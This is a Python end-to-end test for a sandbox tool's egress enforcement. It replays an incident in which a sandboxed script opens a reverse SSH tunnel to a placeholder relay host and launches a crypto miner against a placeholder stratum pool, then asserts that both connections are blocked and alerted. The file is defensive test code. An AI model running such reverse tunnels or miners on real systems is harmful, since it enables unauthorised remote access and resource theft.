"""The incident replayed under enforcement: a sandbox whose policy allows only its package
mirror (by name) fetches from the mirror, then opens a reverse SSH tunnel and starts a miner.
Neither reaches its server: sshd's own log has no connection, the pool no request; each
refusal is a denied connect event and a high alert.

`sandtrace run --enforce` runs as a real process with the sandbox namespace's resolv.conf
(naming the test's DNS server) as its own /etc/resolv.conf, in a mount namespace of its own:
the sandbox's resolver is then the one it allows by default. Its command runs in the inside
network namespace; sshd, the pool, the mirror and the DNS server are real servers in the
outside namespace.
"""

from __future__ import annotations

import json
import secrets
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.e2e.conftest import NetNS
from tests.e2e.test_incidents import Run, _json_lines
from tests.e2e.testhosts import (
    DnsServer,
    HttpHost,
    MiningPool,
    SshServer,
    install_miner,
    run_dns_server,
)

DENIED_RULE = "ede89068-a3e8-4a81-a99b-d7010e689bfe"  # rules/enforcement.yml
MIRROR = "mirror.example.test"
TUNNEL = "relay.example.test"
POOL = "pool.example.test"


@pytest.fixture
def dns(testnet: NetNS) -> Iterator[DnsServer]:
    """Every name is the outside host; only the mirror's is in the policy."""
    zone = {n: {"A": [testnet.outside_addr], "TTL": 300} for n in (MIRROR, TUNNEL, POOL)}
    with run_dns_server(testnet, zone) as server:
        yield server


@pytest.fixture
def staging() -> Iterator[Path]:
    path = Path("/tmp") / f"st-enf-{secrets.token_hex(4)}"
    path.mkdir()
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


def enforced_run(net: NetNS, script: str, tmp: Path, *extra: str) -> Run:
    """`sandtrace run --enforce` with the inside namespace's resolv.conf as its own, its
    command in the inside namespace."""
    events, alerts = tmp / "events.jsonl", tmp / "alerts.jsonl"
    resolv = Path("/etc/netns") / net.inside / "resolv.conf"
    sandtrace = [
        sys.executable, "-m", "sandtrace", "run", "--enforce", "--json",
        "--events", str(events), "--alerts", str(alerts), *extra,
        "--", *net.in_inside("sh", "-c", script),
    ]  # fmt: skip
    argv = [
        "unshare", "--mount", "sh", "-c",
        f'mount --bind "{resolv}" /etc/resolv.conf && exec "$@"', "sh", *sandtrace,
    ]  # fmt: skip
    proc = subprocess.run(
        argv,
        cwd=tmp,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        timeout=180,
        check=False,
    )
    return Run(proc.returncode, proc.stderr, _json_lines(events), _json_lines(alerts))


def test_tunnel_and_miner_never_reach_their_servers_under_a_mirror_only_policy(
    *,
    testnet: NetNS,
    dns: DnsServer,
    sshd: SshServer,
    mining_pool: MiningPool,
    http_host: HttpHost,
    staging: Path,
    work: Path,
) -> None:
    marker = secrets.token_hex(8)
    http_host.put("simple/index.html", marker)
    miner = install_miner(staging / "syncd")
    wallet = f"WALLET-{secrets.token_hex(4)}"
    config = staging / "c.json"
    config.write_text(
        json.dumps({"pools": [{"url": f"stratum+tcp://{POOL}:{mining_pool.port}",
                               "user": wallet, "pass": "x"}]})
    )  # fmt: skip
    ssh = " ".join(sshd.client_argv())
    script = "; ".join(
        [
            f"curl -sS -o index.html http://{MIRROR}:{http_host.port}/simple/index.html",
            f"{ssh} -N -R 18080:127.0.0.1:8000 root@{TUNNEL} 2> ssh.err; echo $? > ssh.rc",
            f"{ssh} -N -p {sshd.alt_port} root@{sshd.alt_addr} 2>> ssh.err",
            f"{miner} -c {config} > miner.out 2>&1; echo $? > miner.rc",
            "true",
        ]
    )
    run = enforced_run(testnet, script, work, "--egress-allow", f"{MIRROR}:{http_host.port}")
    assert run.returncode == 0, run.stderr
    # the mirror, by name, was reached
    assert (work / "index.html").read_text() == marker
    assert [r["path"] for r in http_host.requests()] == ["/simple/index.html"]
    # neither the tunnel nor the miner reached its server
    assert "Operation not permitted" in (work / "ssh.err").read_text()
    assert (work / "ssh.rc").read_text().strip() == "255"
    assert "Connection from" not in sshd.log_text()
    assert "Accepted" not in sshd.log_text()
    assert mining_pool.requests() == []
    assert (work / "miner.rc").read_text().strip() != "0"
    # each refusal is an event, and alerted high
    denied = {
        (e["daddr"], e["dport"], e["hostname"])
        for e in run.events
        if e["kind"] == "connect" and e.get("denied")
    }
    assert denied == {
        (sshd.addr, sshd.port, TUNNEL),
        (sshd.alt_addr, sshd.alt_port, ""),
        (mining_pool.addr, mining_pool.port, POOL),
    }
    assert all(
        (e["outcome"], e["errno_name"]) == ("denied", "EPERM")
        for e in run.events
        if e.get("denied")
    )
    alerted = {
        (ev["daddr"], ev["dport"])
        for a in run.alerts
        if a["rule_id"] == DENIED_RULE
        for ev in a["events"]
    }
    assert alerted == {(d, p) for d, p, _ in denied}
    assert {a["level"] for a in run.alerts if a["rule_id"] == DENIED_RULE} == {"high"}
    # the kernel's own count, at the end: ssh twice, the miner once (no retry: it exits)
    refused = [line for line in run.stderr.splitlines() if "refused in the kernel" in line]
    assert refused == ["sandtrace: refused in the kernel: connect=3 send=0 resolver=0 unix=0"]
